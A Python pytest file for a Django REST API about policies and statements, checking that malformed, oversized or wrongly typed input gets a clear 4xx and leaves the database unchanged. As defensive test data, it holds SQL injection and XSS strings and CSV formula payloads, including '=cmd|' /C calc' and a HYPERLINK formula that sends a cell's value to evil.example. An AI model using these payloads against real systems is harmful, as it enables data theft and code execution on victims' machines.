"""Bad input, as a table: each request below gets a 4xx with a message, never a 500, and leaves the
database as it was. Requests are sent by a user who may write everything, so nothing is refused for
want of permission.

- `REQUESTS`: malformed bodies, wrong content types, oversized bodies and URLs, NUL characters,
  impossible dates, unknown keys, currencies and formats, bad paging;
- `wrong_types`: every writable field of every resource, each with values of the wrong type or shape;
- `INJECTIONS` in every filter of every list and every free-text field of every resource: refused
  or stored and returned verbatim (never interpreted), and escaped in the browsable API.
"""

import base64
import json
import re
from decimal import Decimal

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import connection
from rest_framework import serializers
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from policy.api.urls import router
from policy.representation.fields import CompactRelatedField

from .api_support import client_for, csv_rows, editor_user


def table_counts():
    """Rows in every table of the app (records, links, history) and of users and tokens, in one query."""
    models = [*apps.get_app_config("policy").get_models(include_auto_created=True), Token, get_user_model()]
    tables = [connection.ops.quote_name(model._meta.db_table) for model in models]
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + ", ".join(f"(SELECT COUNT(*) FROM {table})" for table in tables))
        return dict(zip(tables, cursor.fetchone(), strict=True))


API = "/api/v1/"
ROUTES = {prefix: viewset for prefix, viewset, _ in router.registry}
BIG = 3 * 1024 * 1024  # above DATA_UPLOAD_MAX_MEMORY_SIZE
DEEP_JSON = "[" * 3000 + "]" * 3000


ACTOR_WITH = '{"slug": "new-person", "name": "New Person", "kind": "person", "aliases": %s}'


def case(method, url, status, message, *, body=None, content_type="application/json", **headers):
    return {"method": method, "url": url, "status": status, "message": message, "body": body, "type": content_type}


REQUESTS = {
    "malformed JSON": case("post", "topics/", 400, "JSON parse error", body='{"slug": '),
    # A list is a bulk write (tests/test_bulk_writes.py): its items that are not objects are refused by index.
    "JSON that is not an object or a list": case("post", "topics/", 400, "Expected a dictionary", body="42"),
    "JSON with a trailing comma": case("patch", "topics/migration/", 400, "JSON parse error", body='{"name": "x",}'),
    # json.loads keeps the last of a key given twice: the client's mistake was stored as if meant.
    "a key twice in a POST": case(
        "post", "topics/", 400, "“name” is given twice", body='{"slug": "twice", "name": "a", "name": "b"}'
    ),
    "a key twice in a PUT": case(
        "put", "topics/migration/", 400, "“name” is given twice", body='{"slug": "migration", "name": "a", "name": "b"}'
    ),
    "a key twice in a PATCH": case(
        "patch", "topics/migration/", 400, "“name” is given twice", body='{"name": "a", "name": "b"}'
    ),
    "a key twice in a nested object": case(
        "patch",
        "policies/POLICY/",
        400,
        "“relation” is given twice",
        body='{"related": [{"relation": "extends", "relation": "reverses", "policy": "x"}]}',
    ),
    "a key twice in a bulk write's item": case(
        "post", "topics/", 400, "“slug” is given twice", body='[{"slug": "a", "name": "a"}, {"slug": "b", "slug": "c"}]'
    ),
    "invalid UTF-8 in JSON": case("post", "topics/", 400, "JSON parse error", body=b'{"name": "\xff\xfe"}'),
    "text/plain body": case("post", "topics/", 415, "Unsupported media type", body="slug=x", content_type="text/plain"),
    "XML body": case("post", "topics/", 415, "Unsupported media type", body="<t/>", content_type="application/xml"),
    "3 MiB JSON body": case("post", "topics/", 413, "larger than", body='{"name": "' + "x" * BIG + '"}'),
    "3 MiB form body": case(
        "post",
        "topics/",
        413,
        "larger than",
        body="name=" + "x" * BIG,
        content_type="application/x-www-form-urlencoded",
    ),
    "2000 form fields": case(
        "post", "topics/", 400, "exceeded", body="a=1&" * 2000, content_type="application/x-www-form-urlencoded"
    ),
    "NUL in a JSON string": case("post", "topics/", 400, "NUL", body='{"slug": "a", "name": "a\\u0000b"}'),
    "NUL in a JSON key": case("patch", "topics/migration/", 400, "NUL", body='{"na\\u0000me": "x"}'),
    "NUL in a form field": case(
        "post", "topics/", 400, "NUL", body="slug=a&name=a%00b", content_type="application/x-www-form-urlencoded"
    ),
    "a multipart body with no readable part": case(
        "patch",
        "topics/migration/",
        400,
        "no readable fields",
        body="--b0\r\n-6.1e-83--b0--\r\n",
        content_type="multipart/form-data; boundary=b0",
    ),
    "NUL in a query parameter": case("get", "topics/?search=a%00b", 400, "NUL"),
    "NUL in a query parameter's name": case("get", "topics/?sea%00rch=a", 400, "NUL"),
    "NUL in a key in the path": case("get", "topics/migr%00ation/", 400, "NUL"),
    "NUL in a related filter": case("get", "statements/?country=M%00X", 400, "NUL"),
    "2000 query parameters": case("get", "topics/?" + "a=1&" * 2000, 400, "more than 1000 query parameters"),
    "a 10 000-character search": case("get", "policies/?search=" + "x" * 10_000, 400, "at most 200 characters"),
    "a 10 000-character key filter": case("get", "policies/?country=" + "X" * 10_000, 400, "No country"),
    "a 10 000-character detail key": case("get", "policies/" + "x" * 10_000 + "/", 404, "No policy"),
    "an unknown query parameter": case("get", "policies/?colour=red", 400, "Unknown query parameter"),
    "page -1": case("get", "topics/?page=-1", 400, "not a page number"),
    "page 0": case("get", "topics/?page=0", 400, "not a page number"),
    "page abc": case("get", "topics/?page=abc", 400, "not a page number"),
    "page 1.5": case("get", "topics/?page=1.5", 400, "not a page number"),
    "a page past the last": case("get", "topics/?page=99999", 404, "Page 99999 is past the last page, 1: 15 rows"),
    "page_size -5": case("get", "topics/?page_size=-5", 400, "at least 1"),
    "page_size abc": case("get", "topics/?page_size=abc", 400, "not a whole number"),
    "a JSON body nested 3 000 deep": case("patch", "topics/migration/", 400, "nested too deeply", body=DEEP_JSON),
    "a JSON object nested 3 000 deep": case(
        "post", "topics/", 400, "nested too deeply", body='{"name": ' * 3000 + "1" + "}" * 3000
    ),
    # A date of the right shape that is no day says so, wherever a date is read (it said "Enter a valid
    # date" or "not an ISO 8601 date-time", as for the wrong shape).
    "date 2021-02-30 in a filter": case(
        "get", "policies/?date_after=2021-02-30", 400, "“2021-02-30” is not a day of the calendar: February 2021's"
    ),
    "date 2021-13-01 in a filter": case(
        "get", "statements/?date_before=2021-13-01", 400, "“2021-13-01” is not a day of the calendar: months run"
    ),
    "year 0 in a filter": case("get", "events/?end_date_after=0000-05-01", 400, "years run from 0001"),
    "month 2021-13 in a filter": case("get", "statements/?date_after=2021-13", 400, "“2021-13” is not a month of"),
    "a day 31 in the timeline": case(
        "get", "timeline/?date_after=2021-04-31", 400, "April 2021's days run from 01 to 30"
    ),
    "2021-02-29 in updated_after": case(
        "get", "topics/?updated_after=2021-02-29T12:00:00Z", 400, "“2021-02-29” is not a day of the calendar"
    ),
    "as_of 2021-02-30": case(
        "get", "topics/migration/?as_of=2021-02-30T00:00:00Z", 400, "“2021-02-30” is not a day of the calendar"
    ),
    "as_of in month 13": case("get", "topics/migration/?as_of=2021-13-01", 400, "months run from 01 to 12"),
    # Found by a stranger: Django's default formats read these as 7 May 2021, silently.
    "a US-style date in a filter": case(
        "get", "statements/?date_after=05/07/2021", 400, "Not a date: write YYYY-MM-DD"
    ),
    "a US-style date in the timeline": case("get", "timeline/?date_before=05/07/2021", 400, "write YYYY-MM-DD"),
    "a date without its zeros in a filter": case("get", "statements/?date_after=2021-5-7", 400, "write YYYY-MM-DD"),
    "as_of that is not a date": case("get", "topics/migration/?as_of=yesterday", 400, "not an ISO 8601"),
    "an unknown currency": case("get", "aid-packages/?currency=XYZ", 400, "XYZ"),
    "a lower-case currency": case("get", "aid-packages/?currency=usd", 400, "usd"),
    "an unknown country code": case("get", "policies/?country=ZZ", 400, "No country with code “ZZ”"),
    "an unknown topic slug": case("get", "statements/?topic=no-such-topic", 400, "No topic with slug"),
    "an unknown slug in a detail URL": case("get", "policies/no-such-policy/", 404, "No policy with slug"),
    "an unknown status": case("get", "policies/?status=abolished", 400, "abolished"),
    "a non-numeric amount": case("get", "aid-packages/?amount_min=lots", 400, "Enter a number"),
    "NaN as an amount": case("get", "aid-packages/?amount_max=NaN", 400, "Enter a number"),
    "an unknown ordering field": case("get", "policies/?ordering=password", 400, "password"),
    "an SQL ordering": case("get", "policies/?ordering=title;DROP TABLE policy_policy", 400, "ordering"),
    "an unknown field in fields=": case("get", "policies/?fields=title,secret", 400, "Unknown field"),
    "an unknown format": case("get", "policies/?format=xml", 400, "Unknown format"),
    "an unknown timeline type": case("get", "timeline/?type=tweet", 400, "tweet"),
    "a date of 2021-02-30 in a body": case(
        "patch",
        "policies/POLICY/",
        400,
        "“2021-02-30” is not a day of the calendar: February 2021's days run from 01 to 28.",
        body='{"start_date": "2021-02-30"}',
    ),
    "year 0 in a body": case(
        "patch", "statements/STATEMENT/", 400, "years run from 0001", body='{"said_on": "0000-01-01"}'
    ),
    "an unknown currency in a body": case("patch", "aid-packages/AID/", 400, "XYZ", body='{"currency": "XYZ"}'),
    "an unknown related slug in a body": case(
        "patch", "statements/STATEMENT/", 400, "No actor", body='{"speaker": "nobody"}'
    ),
    "a related key that is a number": case(
        "patch", "statements/STATEMENT/", 400, "Expected a slug", body='{"speaker": 7}'
    ),
    "a non-slug slug": case("post", "topics/", 400, "slug", body='{"slug": "no spaces!", "name": "x"}'),
    "a unicode slug": case("post", "topics/", 400, "slug", body='{"slug": "migración", "name": "x"}'),
    "a duplicate slug": case("post", "topics/", 400, "already exists", body='{"slug": "migration", "name": "x"}'),
    # The admin's rule for aliases (each once, case aside; two characters or more), in the API too.
    # A `+` typed into a URL arrives as a space: the refusal says how to write it.
    "an offset's + as a space": case(
        "get", "statements/?updated_after=2021-05-07T12:00:00 02:00", 400, "write the offset's + as %2B"
    ),
    "as_of with its + as a space": case(
        "get", "topics/migration/?as_of=2021-05-07T12:00:00 02:00", 400, "write the offset's + as %2B"
    ),
    "an alias twice": case("post", "actors/", 400, "Each alias once: ab is", body=ACTOR_WITH % '["AB", "ab"]'),
    "a one-letter alias": case("post", "actors/", 400, "two characters or more", body=ACTOR_WITH % '["B"]'),
    "a negative amount": case("patch", "aid-packages/AID/", 400, "greater than or equal to 0", body='{"amount": "-5"}'),
    "an amount with 30 digits": case(
        "patch", "aid-packages/AID/", 400, "digits", body='{"amount": "1' + "0" * 29 + '"}'
    ),
    "an end before the start": case(
        "patch",
        "policies/POLICY/",
        400,
        "must not be before",
        body='{"start_date": "2021-05-01", "end_date": "2021-01-01", "date_precision": "day"}',
    ),
    "a day with month precision": case(
        "patch", "statements/STATEMENT/", 400, "first day", body='{"said_on": "2021-05-07", "date_precision": "month"}'
    ),
    "an excerpt its source does not contain": case(
        "patch", "statements/STATEMENT/", 400, "does not occur verbatim", body='{"excerpt": "Words nobody said."}'
    ),
}


@pytest.fixture
def writer(db, django_user_model):
    return client_for(editor_user(django_user_model, "careless"))


def some_key(route):
    viewset = ROUTES[route]
    model = viewset.serializer_class.Meta.model
    return model.objects.order_by("pk").values_list(viewset.lookup_field, flat=True)[0]


def message_of(response):
    body = response.json()
    return " ".join(str(value) for value in body.values()) + " " + " ".join(map(str, body))


def send(client, method, url, body=None, content_type="application/json"):
    url = (API + url).replace("POLICY", some_key("policies")).replace("AID", some_key("aid-packages"))
    url = url.replace("STATEMENT", some_key("statements"))
    if body is None:
        return getattr(client, method)(url)
    return client.generic(method.upper(), url, body, content_type=content_type)


@pytest.mark.parametrize("name", REQUESTS)
def test_bad_request_is_a_clear_4xx_and_changes_nothing(writer, name):
    spec = REQUESTS[name]
    before = table_counts()
    response = send(writer, spec["method"], spec["url"], spec["body"], spec["type"])
    assert response.status_code == spec["status"], response.content[:500]
    assert response["Content-Type"] == "application/json"
    assert spec["message"] in message_of(response), response.json()
    assert table_counts() == before


def cursor(ordering, values):
    payload = json.dumps({"d": "after", "o": ordering, "v": values}).encode()
    return base64.urlsafe_b64encode(payload).decode().rstrip("=")


# Found from outside, each a 500 for anyone (no credentials): the status each must be instead.
ANONYMOUS = {
    "superscript digits as a page": ("get", "topics/?page=%C2%B2", 400, "not a page number"),
    "superscript digits as a page size": ("get", "topics/?page_size=%C2%B2", 400, "not a whole number"),
    "a page beyond any database's OFFSET": ("get", "topics/?page=" + "9" * 25, 404, "past the last page, 1: 15"),
    "as_of past the last date-time, in UTC": (
        "get", "topics/migration/?as_of=9999-12-31T23:59:59-23:59", 400, "not an ISO 8601"
    ),
    "as_of before the first date-time, in UTC": (
        "get", "topics/migration/?as_of=0001-01-01T00:00:00%2B23:59", 400, "not an ISO 8601"
    ),
    "a cursor past the last date-time": (
        "get", "topics/?ordering=updated_at&cursor=" + cursor(["updated_at", "pk"], ["9999-12-31T23:59:59-23:59", 1]),
        400, "Invalid cursor",
    ),
    "a cursor with an infinite amount": (
        "get", "aid-packages/?ordering=amount&cursor=" + cursor(["amount", "pk"], ["Infinity", 1]),
        400, "Invalid cursor",
    ),
    "a cursor of 1 000 nested [": (
        "get", "topics/?cursor=" + base64.urlsafe_b64encode(b"[" * 1000).decode(), 400, "Invalid cursor"
    ),
    "a JSON body nested 3 000 deep for a token": ("post", "auth/token/", 400, "nested too deeply"),
}  # fmt: skip


@pytest.mark.parametrize("name", ANONYMOUS)
def test_anonymous_bad_request_is_a_4xx_not_a_500(db, name):
    method, url, status, message = ANONYMOUS[name]
    body = DEEP_JSON if method == "post" else None
    response = send(APIClient(), method, url, body)
    assert response.status_code == status, response.content[:500]
    assert message in message_of(response)


# Wrong types for every writable field -----------------------------------------------------------

WRONG = {
    serializers.SlugField: [{"a": 1}, True, "not a slug!", "ünïcode"],
    serializers.URLField: [["x"], "not a url", "javascript:alert(1)"],
    serializers.ChoiceField: [{"a": 1}, 5, "no-such-choice"],
    serializers.CharField: [{"a": 1}, ["x"], True, 12, -1.5e308],
    serializers.DateField: [20210230, "2021-02-30", "yesterday"],
    serializers.DecimalField: ["abc", "NaN", "1e999", {"a": 1}],
    serializers.BooleanField: ["maybe", {"a": 1}, 2],
    CompactRelatedField: [123, {"slug": "x"}, "no-such-record"],
    serializers.ManyRelatedField: ["not-a-list", [123], ["no-such-record"]],
    serializers.JSONField: ["AMLO", [1], {"a": 1}, [""]],
    serializers.ListSerializer: ["x", [1], [{"relation": "bogus"}], [{"relation": "reverses", "policy": "no-such"}]],
}


def wrong_values(field):
    for kind, values in WRONG.items():
        if isinstance(field, kind):
            values = list(values)
            if isinstance(field, serializers.CharField) and getattr(field, "max_length", None):
                values.append("x" * (field.max_length + 1))
            return values
    raise AssertionError(f"no wrong values for {field!r}")


def wrong_type_cases():
    for route, viewset in sorted(ROUTES.items()):
        for name, field in viewset.serializer_class().fields.items():
            if field.read_only:
                continue
            for index, value in enumerate(wrong_values(field)):
                yield pytest.param(route, name, value, id=f"{route}-{name}-{index}")


WRONG_TYPE_CASES = list(wrong_type_cases())


@pytest.mark.parametrize("route, field, value", WRONG_TYPE_CASES)
def test_wrong_type_for_a_field_is_400_naming_it(writer, route, field, value):
    before = table_counts()
    response = writer.patch(f"{API}{route}/{some_key(route)}/", {field: value}, format="json")
    assert response.status_code == 400, response.content[:500]
    assert field in response.json(), response.json()
    assert all(response.json()[field]), "with a message"
    assert table_counts() == before


# Injection strings: refused, or stored verbatim and never interpreted ---------------------------

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE policy_policy; --",
    '" OR ""="',
    "1) UNION SELECT username, password FROM auth_user --",
    "%' AND 1=1 --",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} ${7*7}",
]


def filter_cases():
    for route, viewset in sorted(ROUTES.items()):
        for param in sorted(viewset.filterset_class.base_filters):
            yield pytest.param(route, param, id=f"{route}-{param}")


@pytest.mark.parametrize("route, param", list(filter_cases()))
def test_injection_strings_in_every_filter(writer, route, param):
    before = table_counts()
    everything = writer.get(f"{API}{route}/").json()["count"]
    for text in INJECTIONS[::2]:  # three SQL shapes and one HTML; the text-field test sends them all
        response = writer.get(f"{API}{route}/", {param: text})
        if response.status_code == 400:
            assert param in response.json(), response.json()
        else:
            assert response.status_code == 200, response.content[:300]
            assert response.json()["count"] < everything or everything == 0, "never widens the results"
    assert table_counts() == before


def text_fields():
    for route, viewset in sorted(ROUTES.items()):
        for name, field in viewset.serializer_class().fields.items():
            special = (serializers.SlugField, serializers.URLField, serializers.EmailField)
            plain_text = isinstance(field, serializers.CharField) and not isinstance(field, special)
            plain_text = plain_text and not field.read_only
            if plain_text:
                yield pytest.param(route, name, id=f"{route}-{name}")


@pytest.mark.parametrize("route, field", list(text_fields()))
def test_injection_strings_in_every_text_field(writer, route, field):
    url = f"{API}{route}/{some_key(route)}/"
    for text in INJECTIONS:
        before = table_counts()
        response = writer.patch(url, {field: text}, format="json")
        if response.status_code == 400:  # a code, a language tag or an excerpt its source lacks
            assert field in response.json()
            assert table_counts() == before
            continue
        assert response.status_code == 200, response.content[:300]
        assert writer.get(url).json()[field] == text, "stored and returned verbatim"


@pytest.mark.parametrize("tag", ["en", "es-MX", "zh-Hant", "zh-Hant-TW", "es-419", "sr-Latn-RS", "EN-us", "de-CH-1996"])
def test_a_statement_s_language_is_a_bcp_47_tag(writer, tag):
    url = f"{API}statements/{some_key('statements')}/"
    response = writer.patch(url, {"language": tag}, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["language"] == tag


@pytest.mark.parametrize(
    "value", ["english", "e", "en_US", "en-", "-en", "en--us", "es-MX1", "zh-Hant-", "1a", "en us"]
)
def test_a_language_that_is_no_bcp_47_tag_is_a_400_naming_it(writer, value):
    """Any ten characters were stored as a statement's language (`english`, `en_US`)."""
    url = f"{API}statements/{some_key('statements')}/"
    before = table_counts()
    response = writer.patch(url, {"language": value}, format="json")
    assert response.status_code == 400
    assert list(response.json()) == ["language"]
    assert "BCP 47" in response.json()["language"][0]
    assert table_counts() == before


def test_the_browsable_api_escapes_stored_html(writer):
    url = f"{API}topics/{some_key('topics')}/"
    writer.patch(url, {"name": '<script>alert("x")</script>'}, format="json")
    page = writer.get(url, {"format": "api"}).content.decode()
    assert '<script>alert("x")</script>' not in page
    assert "&lt;script&gt;alert(" in page


def test_unicode_text_and_searches_are_fine(writer):
    url = f"{API}topics/{some_key('topics')}/"
    name = "Migración — 移民 🌎 ‏עברית‎ Ǆ"
    assert writer.patch(url, {"name": name}, format="json").json()["name"] == name
    assert writer.get(f"{API}topics/", {"search": "移民 🌎"}).json()["count"] >= 1
    assert writer.get(f"{API}topics/", {"search": "\u200b\u202e"}).status_code == 200


@pytest.mark.parametrize(
    "url, header",
    [
        ("sources/?date_after=1900-01-01&date_before=1900-01-01&page=1", "url,slug,title,"),
        ("sources/?date_after=1900-01-01&date_before=1900-01-01&page=1&fields=slug,title", "slug,title"),
        ("timeline/?date_before=1900-01-01&page=1", "type,slug,title,date,date_precision,url"),
    ],
)
def test_an_empty_csv_page_keeps_its_header_and_content_type(db, url, header):
    """Found by the fuzzer: an empty page rendered as an empty body, which also lost its Content-Type."""
    response = APIClient().get(f"{API}{url}&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.decode().startswith(header)


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def formulas(db):
    """A policy whose title, summary and notes, and a topic whose name and description, begin the way a
    spreadsheet formula does (saved, so their history holds them too), and a statistic with a real
    negative value."""
    from policy.models import Policy, Statistic, Topic

    policy = Policy.objects.order_by("pk").first()
    policy.title, policy.summary, policy.notes = "=cmd|' /C calc'!A0", "+1+cmd|x", FORMULA
    policy.save()
    topic = policy.topics.order_by("pk").first()
    topic.name, topic.description = "@SUM(A1:A9)", "\t=1+1"
    topic.save()
    other = Topic.objects.exclude(pk=topic.pk).order_by("pk").first()
    other.name, other.description = "-2+3", "\r=2+2"
    other.save()
    statistic = Statistic.objects.order_by("pk").first()
    Statistic.objects.filter(pk=statistic.pk).update(value=-12.5)
    return policy, topic, other, statistic


def csv_export(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return csv_rows(response)


def spreadsheet_formulas(rows):
    """Cells a spreadsheet would evaluate: starting with = + - @, a tab or a CR, and not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?\d+(\.\d+)?", cell)
    ]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(formulas):
    """OWASP's CSV injection: every CSV the API writes prefixes such a cell with ' — lists (streamed and
    paged), details, the timeline and history — and keeps real negative numbers as numbers."""
    policy, topic, other, statistic = formulas
    client = APIClient()
    exports = {
        name: csv_export(response)
        for name, response in {
            "streamed list": client.get(f"{API}policies/", {"format": "csv"}),
            "list page": client.get(f"{API}policies/", {"format": "csv", "page_size": 1000}),
            "detail": client.get(f"{API}policies/{policy.slug}/", {"format": "csv"}),
            "timeline": client.get(f"{API}timeline/", {"format": "csv", "type": "policy", "page_size": 1000}),
            "history": client.get(f"{API}topics/{topic.slug}/history/", {"format": "csv"}),
            "topics": client.get(f"{API}topics/", {"format": "csv"}),
        }.items()
    }
    assert {name: spreadsheet_formulas(response) for name, response in exports.items()} == {
        name: [] for name in exports
    }
    header, *rows = exports["detail"]
    row = dict(zip(header, rows[0], strict=True))
    assert (row["title"], row["summary"], row["notes"]) == ("'=cmd|' /C calc'!A0", "'+1+cmd|x", "'" + FORMULA)
    topics = {row[1]: row for row in exports["topics"]}
    assert topics[topic.slug][2:4] == ["'@SUM(A1:A9)", "'\t=1+1"]
    assert topics[other.slug][2:4] == ["'-2+3", "'\r=2+2"]
    titles = {row[1]: row[2] for row in exports["timeline"]}
    assert titles[policy.slug] == "'=cmd|' /C calc'!A0"
    values = csv_export(client.get(f"{API}statistics/", {"format": "csv", "fields": "slug,value"}))
    assert Decimal(dict(values)[statistic.slug]) == Decimal("-12.5"), "a negative number stays a number"


@pytest.mark.parametrize("number", ["-12.5", "-.5", "-1e5", "+3", "-2.5E-3"])
def test_a_cell_that_is_a_plain_number_stays_a_number(db, number):
    """Found by a stranger: `-.5` and `-1e5` became text (a leading ') though no spreadsheet runs them."""
    from policy.models import Topic

    topic = Topic.objects.order_by("pk").first()
    Topic.objects.filter(pk=topic.pk).update(description=number)
    rows = csv_export(APIClient().get(f"{API}topics/", {"format": "csv", "fields": "slug,description"}))
    assert dict(rows)[topic.slug] == number
